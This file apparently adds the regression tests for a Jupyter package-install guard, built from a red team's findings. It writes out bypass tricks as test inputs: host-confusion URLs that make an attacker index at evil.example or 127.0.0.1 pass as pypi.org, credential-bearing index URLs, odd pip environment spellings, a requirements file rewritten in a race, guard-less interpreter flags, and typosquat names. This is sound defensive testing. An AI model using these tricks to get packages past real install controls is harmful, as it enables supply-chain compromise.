@@ -1,0 +1,364 @@
+"""The red team's install-gate findings (notes/red/FINDINGS.md, deps and events), each as a
+test that failed before its fix: secrets in events (E1-E3), index host confusion (D4), pip
+settings Warden did not read (D1, D2), option lines (D3), guard-less pip children (D5, D6) and
+separator imitations (finding 14)."""
+
+import json
+import sys
+
+import pytest
+from test_install_gate import POLICY, _assert_refused_before_pip, _installed, _pip
+
+from jupyterlab_warden.kernel.guard.installs import commands, decide
+from jupyterlab_warden.kernel.guard.installs.request import redact_url
+
+SECRETS = ("S3CRET1", "S3C/RET2", "RET2", "S3CRET3", "S3CRE$T4", "S3CRE")
+
+
+# -- E1-E3: no secret reaches a message or event ---------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://bob:S3CRET1@evil.example/simple",
+        "https://bob:S3C/RET2@evil.example/simple",  # "/" in the password
+        "https://evil.example/simple?private_token=S3CRET3",
+        "https://evil.example/simple#S3CRET3",
+        "https://bob:12/RET2@evil.example/simple",  # the password parses as a port
+    ],
+)
+def test_redacted_urls_keep_no_credential_query_or_fragment(url):
+    shown = redact_url(url)
+    assert not [s for s in SECRETS if s in shown], shown
+    assert shown.startswith(("https://", "<"))
+
+
+def test_an_unreadable_shell_install_names_the_construct_not_the_word():
+    with pytest.raises(commands.Unreadable) as raised:
+        commands.shell_invocations("pip install -i https://bob:S3CRE$T4@host/simple requests")
+    assert "S3CRE" not in str(raised.value) and "$ parameter" in str(raised.value)
+
+
+@pytest.mark.parametrize(
+    "index_args",
+    [
+        ["-i", "https://bob:S3C/RET2@evil.example/simple"],
+        ["-i", "https://evil.example/simple?private_token=S3CRET3"],
+    ],
+)
+def test_refusal_events_carry_no_index_secret(guarded, tmp_path, index_args):
+    result = guarded(POLICY, [sys.executable, "-m", "pip", "install", *index_args, "requests"])
+    assert result["type"] == "WardenBlockedInstall", result
+    blob = json.dumps(guarded.events()) + result["refused"]
+    assert "evil.example" in blob or "cannot parse" in blob
+    assert not [s for s in SECRETS if s in blob], blob
+
+
+def test_a_shell_install_refusal_event_does_not_quote_the_expanded_word(guarded, tmp_path):
+    result = guarded(POLICY, "pip install -i https://bob:S3CRE$T4@evil.example/simple requests")
+    assert result["type"] == "WardenBlockedInstall", result
+    events = guarded.events()
+    assert [e["rule_id"] for e in events] == ["install-unreadable"]
+    assert "S3CRE" not in json.dumps(events) + result["refused"]
+
+
+# -- D4: the host is what urlsplit (and so pip) connects to ----------------------------------
+
+
+@pytest.mark.parametrize(
+    ("url", "allowed"),
+    [
+        ("https://127.0.0.1:8443#@pypi.org/simple", False),
+        ("https://127.0.0.1:8443?@pypi.org/simple", False),
+        ("https://pypi.org@127.0.0.1/simple", False),
+        ("https://a@b@127.0.0.1/simple", False),
+        ("https://pypi.org.evil.example/simple", False),
+        ("https://pypi.org/simple/?x=1", False),
+        ("https://user:tok@pypi.org/simple/", True),
+        ("https://PyPI.org:443/simple", True),
+        ("https://pypi.org/simple/torch/", True),
+        ("https://pypi.org:8443/simple", False),
+    ],
+)
+def test_index_urls_are_decided_on_the_host_pip_connects_to(url, allowed):
+    assert decide.url_allowed(url, list(decide.DEFAULT_INDEXES)) is allowed
+
+
+def test_a_query_or_fragment_passes_only_when_trusted_exactly():
+    trusted = ["https://pkgs.example/simple?team=ml"]
+    assert decide.url_allowed("https://pkgs.example/simple?team=ml", trusted)
+    assert not decide.url_allowed("https://pkgs.example/simple?team=ops", trusted)
+
+
+@pytest.mark.parametrize("trick", ["#@pypi.org/simple", "?@pypi.org/simple"])
+def test_an_attacker_index_posing_as_pypi_is_refused_before_pip(guarded, index, tmp_path, trick):
+    index.requests.clear()
+    result = guarded(POLICY, _pip(tmp_path, index.base + trick, "warden-demo-pkg"))
+    _assert_refused_before_pip(
+        guarded, index, tmp_path, result, "install-index-not-allowed", ["127.0.0.1"]
+    )
+    assert not _installed(tmp_path, "warden-demo-pkg")
+
+
+# -- D1, D2: every pip setting pip would read, in any spelling -------------------------------
+
+
+def _env_pip(tmp_path, **env_words):
+    assigns = " ".join(f"'{k}={v}'" for k, v in env_words.items())
+    return (
+        f"env {assigns} {sys.executable} -m pip install --no-deps --target {tmp_path / 'target'} "
+        f"--log {tmp_path / 'pip.log'} warden-demo-pkg"
+    )
+
+
+@pytest.mark.parametrize("var", ["PIP_Index_Url", "PIP_INDEX-URL", "PIP_index_url"])
+def test_pip_environment_names_are_read_as_pip_normalises_them(guarded, index, tmp_path, var):
+    index.requests.clear()
+    result = guarded(POLICY, _env_pip(tmp_path, **{var: index.simple}))
+    _assert_refused_before_pip(guarded, index, tmp_path, result, "install-index-not-allowed", [var])
+
+
+def test_a_requirements_file_named_by_pip_requirement_is_read(guarded, index, tmp_path):
+    index.requests.clear()
+    (tmp_path / "r.txt").write_text(f"--index-url {index.simple}\nwarden-demo-pkg\n")
+    command = (
+        f"PIP_REQUIREMENT=r.txt {sys.executable} -m pip install --no-deps "
+        f"--target {tmp_path / 'target'} --log {tmp_path / 'pip.log'}"
+    )
+    result = guarded(POLICY, command)
+    _assert_refused_before_pip(
+        guarded, index, tmp_path, result, "install-index-not-allowed", ["r.txt line 1"]
+    )
+
+
+def test_a_pip_conf_requirement_is_read(guarded, index, tmp_path):
+    index.requests.clear()
+    (tmp_path / "r.txt").write_text(f"--index-url {index.simple}\nwarden-demo-pkg\n")
+    conf = tmp_path / "pip.conf"
+    conf.write_text(f"[install]\nrequirement = {tmp_path / 'r.txt'}\n")
+    command = (
+        f"PIP_CONFIG_FILE={conf} {sys.executable} -m pip install --no-deps "
+        f"--target {tmp_path / 'target'} --log {tmp_path / 'pip.log'}"
+    )
+    result = guarded(POLICY, command)
+    _assert_refused_before_pip(
+        guarded, index, tmp_path, result, "install-index-not-allowed", ["r.txt line 1"]
+    )
+
+
+def test_a_pip_setting_warden_does_not_read_refuses_the_install(guarded, index, tmp_path):
+    index.requests.clear()
+    result = guarded(POLICY, _env_pip(tmp_path, PIP_PYTHON="/usr/bin/python3"))
+    _assert_refused_before_pip(guarded, index, tmp_path, result, "install-unreadable", ["python"])
+
+
+# -- D2, D6: in pip, the decision is on pip's own merged options ------------------------------
+
+IN_PROCESS = r"""
+import json, os, sys
+from jupyterlab_warden.kernel import guard
+policy = json.loads(sys.argv[1])
+assert guard.install(policy) is not None
+os.environ["PIP_index_url"] = sys.argv[2]  # set after start: pip reads it, Warden's parent never
+from pip._internal.commands import create_command
+from pip._internal.cli import main as cli_main
+args = ["--no-deps", "--target", sys.argv[3], "--log", sys.argv[4], "warden-demo-pkg"]
+how = sys.argv[5]
+try:
+    if how == "create_command":
+        code = create_command("install").main(args)
+    else:
+        code = cli_main.main.__warden_original__(["install"] + args)
+    print(json.dumps({"refused": None, "code": code}))
+except PermissionError as exc:
+    print(json.dumps({"refused": str(exc), "code": None}))
+"""
+
+
+@pytest.mark.parametrize("how", ["create_command", "warden_original"])
+def test_pip_run_inside_the_interpreter_is_decided_on_its_merged_options(
+    guarded, index, tmp_path, how
+):
+    import subprocess
+
+    from conftest import child_env
+
+    index.requests.clear()
+    argv = [
+        sys.executable, "-c", IN_PROCESS, json.dumps(POLICY), index.simple,
+        str(tmp_path / "target"), str(tmp_path / "pip.log"), how,
+    ]  # fmt: skip
+    env = child_env(guarded.spool, guarded.home)
+    done = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=240)
+    assert done.returncode == 0, done.stderr
+    result = json.loads(done.stdout.strip().splitlines()[-1])
+    assert result["refused"] and "PIP_index_url" not in result["refused"], result
+    assert "127.0.0.1" in result["refused"]
+    assert index.requests == [] and not _installed(tmp_path, "warden-demo-pkg")
+    events = guarded.events()
+    assert [e["evidence"]["process_event"] for e in events] == ["pip options"]
+
+
+# -- D3: every option of an option line ------------------------------------------------------
+
+
+def test_every_option_on_a_requirements_line_counts(guarded, index, tmp_path):
+    index.requests.clear()
+    (tmp_path / "r.txt").write_text(f"--pre --index-url {index.simple}\nwarden-demo-pkg\n")
+    command = [
+        sys.executable, "-m", "pip", "install", "--no-deps", "--target", str(tmp_path / "target"),
+        "--log", str(tmp_path / "pip.log"), "-r", "r.txt",
+    ]  # fmt: skip
+    result = guarded(POLICY, command)
+    _assert_refused_before_pip(
+        guarded, index, tmp_path, result, "install-index-not-allowed", ["r.txt line 1"]
+    )
+
+
+# -- D5: a Python that starts without the guard is decided by its parent ---------------------
+
+
+def _tools(argv):
+    return [(i.tool, i.args) for i in commands.invocations(argv)]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["python", "-E", "--check-hash-based-pycs", "never", "-m", "pip", "install", "torcj"],
+        ["python", "-I", "-Ximporttime", "-m", "pip", "install", "torcj"],
+        ["python", "-Impip", "install", "torcj"],
+    ],
+)
+def test_every_interpreter_option_is_parsed_to_find_pip(argv):
+    assert _tools(argv) == [("pip", ["install", "torcj"])]
+
+
+@pytest.mark.parametrize(
+    "argv",
+    [
+        ["python", "-I", "-c", "from pip._internal.cli.main import main; main(['install','x'])"],
+        ["python", "-Es", "-c", "import runpy; runpy.run_module('pip')"],
+        ["python", "-S", "-"],
+        ["python", "--no-such-option", "-m", "pip", "install", "x"],
+    ],
+)
+def test_a_guardless_python_that_may_install_is_unreadable(argv):
+    with pytest.raises(commands.Unreadable):
+        commands.invocations(argv)
+
+
+def test_a_guardless_script_that_mentions_pip_is_unreadable(tmp_path):
+    script = tmp_path / "s.py"
+    script.write_text("import subprocess\nsubprocess.run(['pip', 'install', 'x'])\n")
+    with pytest.raises(commands.Unreadable):
+        commands.invocations(["python", "-I", str(script)])
+    script.write_text("print('hello')\n")
+    assert commands.invocations(["python", "-I", str(script)]) == []
+    assert commands.invocations(["python", "-c", "import pip"]) == []  # guarded: decides itself
+
+
+def test_a_guardless_python_running_pip_is_refused_before_it_starts(guarded, index, tmp_path):
+    index.requests.clear()
+    code = (
+        "from pip._internal.cli.main import main; main(['install', '--no-deps', '--target', "
+        f"{str(tmp_path / 'target')!r}, '--log', {str(tmp_path / 'pip.log')!r}, "
+        f"'-i', {index.simple!r}, 'warden-demo-pkg'])"
+    )
+    policy = dict(POLICY, trusted_sources={"package_indexes": [index.simple]})
+    unguarded = guarded(policy, [sys.executable, "-I", "-c", code], guarded=False)
+    assert unguarded["exit"] == 0 and _installed(tmp_path, "warden-demo-pkg")  # the payload runs
+    import shutil
+
+    shutil.rmtree(tmp_path / "target")
+    (tmp_path / "pip.log").unlink()
+    index.requests.clear()
+    result = guarded(policy, [sys.executable, "-I", "-c", code])
+    _assert_refused_before_pip(
+        guarded, index, tmp_path, result, "install-unreadable", ["without Warden's guard"]
+    )
+
+
+# -- finding 14: separators do not hide an imitation -----------------------------------------
+
+
+@pytest.mark.parametrize("name", ["torc_j", "torc-j", "t.orcj", "tor_chh"])
+def test_separators_do_not_hide_an_imitation(name):
+    from jupyterlab_warden.kernel.guard.installs.data import DepsData
+
+    assert DepsData().popular.imitated(name) == "torch"
+
+
+# -- finding 6 (D9): pip's own read of a requirements file is decided on its bytes -----------
+
+REWRITTEN = r"""
+import json, sys
+from jupyterlab_warden.kernel import guard
+policy, evil, target, log = json.loads(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
+assert guard.install(policy) is not None
+open("r.txt", "w").write("warden-demo-pkg\n")
+from pip._internal.req import req_file
+warden_read = req_file.get_file_content
+
+
+def racing_writer(url, *args, **kwargs):
+    # the file changes after every earlier read and just before pip's own read
+    open("r.txt", "w").write("--index-url " + evil + "\nwarden-demo-pkg\n")
+    return warden_read(url, *args, **kwargs)
+
+
+req_file.get_file_content = racing_writer
+from pip._internal.commands import create_command
+try:
+    code = create_command("install").main(
+        ["--no-deps", "--target", target, "--log", log, "-r", "r.txt"]
+    )
+    print(json.dumps({"refused": None, "code": code}))
+except PermissionError as exc:
+    print(json.dumps({"refused": str(exc), "code": None}))
+"""
+
+
+def test_a_requirements_file_rewritten_before_pip_reads_it_is_decided_on_pips_bytes(
+    guarded, index, tmp_path
+):
+    import subprocess
+
+    from conftest import child_env
+
+    index.requests.clear()
+    argv = [
+        sys.executable, "-c", REWRITTEN, json.dumps(POLICY), index.simple,
+        str(tmp_path / "target"), str(tmp_path / "pip.log"),
+    ]  # fmt: skip
+    env = child_env(guarded.spool, guarded.home)
+    done = subprocess.run(
+        argv, env=env, capture_output=True, text=True, timeout=240, cwd=str(tmp_path)
+    )
+    assert done.returncode == 0, done.stderr
+    result = json.loads(done.stdout.strip().splitlines()[-1])
+    # raised inside pip's run, so pip's catch-all reports it and pip exits with an error
+    assert result["code"] not in (None, 0), result
+    assert "Jupyter Warden refused" in done.stderr and "r.txt line 1" in done.stderr
+    assert index.requests == [] and not _installed(tmp_path, "warden-demo-pkg")
+    events = guarded.events()
+    assert [e["evidence"]["process_event"] for e in events] == ["pip requirements file"]
+    assert [e["rule_id"] for e in events] == ["install-index-not-allowed"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "if pip install torcj; then echo ok; fi",
+        "{ pip install torcj; }",
+        "! pip install torcj",
+        "for i in 1; do pip install torcj; done",
+        "f() { pip install torcj; }; f",
+        "while true; do pip install torcj; break; done",
+    ],
+)
+def test_shell_reserved_words_do_not_hide_pip_from_the_parent(script):
+    assert [(i.tool, i.args) for i in commands.shell_invocations(script)] == [
+        ("pip", ["install", "torcj"])
+    ]
